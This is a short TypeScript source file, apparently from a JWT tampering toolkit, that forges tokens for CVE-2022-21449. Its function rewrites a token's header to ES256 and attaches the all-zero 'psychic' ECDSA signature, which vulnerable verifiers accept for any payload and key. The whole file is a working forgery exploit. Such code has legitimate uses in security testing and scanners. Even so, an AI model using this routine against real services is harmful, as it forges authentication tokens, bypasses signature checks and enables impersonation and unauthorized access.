import { encodeBase64Url } from '../../encoding/base64url';
import { joinJwsSegments, rewriteHeaderSegment, splitJwsSegments } from '../../token/jws-segments';
import type { ForgedToken } from './tamper-attack';

/** ES256's r ‖ s is two 32-byte integers. */
const ES256_SIGNATURE_BYTES = 64;

/**
 * Returns the token with header `alg` set to ES256 and the "psychic" signature r = s = 0 (64 zero
 * bytes), which a verifier that skips the 1 ≤ r, s < n check accepts for any message and any key
 * (CVE-2022-21449). The payload is kept as written.
 */
export function forgeZeroEcdsaToken(token: string): ForgedToken {
  const segments = splitJwsSegments(token);
  if (segments === null) return { ok: false, code: 'not-compact-jws' };
  const header = rewriteHeaderSegment(segments.header, { alg: 'ES256' });
  return { ok: true, token: joinJwsSegments({ header, payload: segments.payload, signature: encodeBase64Url(new Uint8Array(ES256_SIGNATURE_BYTES)) }) };
}
